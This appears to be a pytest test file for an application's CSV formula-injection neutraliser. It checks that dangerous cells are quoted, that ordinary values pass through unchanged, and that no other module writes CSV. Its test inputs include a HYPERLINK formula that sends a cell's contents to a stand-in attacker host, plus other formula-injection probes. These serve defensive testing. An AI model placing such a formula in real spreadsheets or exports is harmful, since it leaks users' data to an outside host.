"""CSV formula injection: one neutraliser in app/core, and no CSV written around it."""

import csv
import io
import re
from pathlib import Path

import pytest

from app.core.csv_safe import csv_text, safe_cell

APP = Path(__file__).resolve().parents[2] / "app"


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.test/?"&A1,"Open")', "+1+2", "-1+2", "@SUM(1)", "\tx", "\r=1", "-3"],
)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(text):
    assert safe_cell(text) == "'" + text
    (row,) = list(csv.reader(io.StringIO(csv_text(["cell"], [[text]]))))[1:]
    assert row == ["'" + text]


@pytest.mark.parametrize("value", ["plain", "", "2026-03-02", "P-1a2b", "a=b", "x@y.test"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, -0.25, 0, 12, 1.5, True, None])
def test_numbers_written_as_numbers_stay_numbers(value):
    assert safe_cell(value) is value
    assert csv_text(["n"], [[-3, -0.25]]).splitlines()[1] == "-3,-0.25"


def test_header_cells_are_neutralised_too():
    assert csv_text(["=x", "y"], []).splitlines() == ["'=x,y"]


def test_every_csv_the_app_writes_goes_through_the_neutraliser():
    """A new export that builds its own csv.writer would skip the neutraliser: only csv_safe may."""
    writers = re.compile(r"csv\.(writer|DictWriter)\b|\bDictWriter\(|from csv import")
    offenders = [
        str(path.relative_to(APP))
        for path in APP.rglob("*.py")
        if path.name != "csv_safe.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
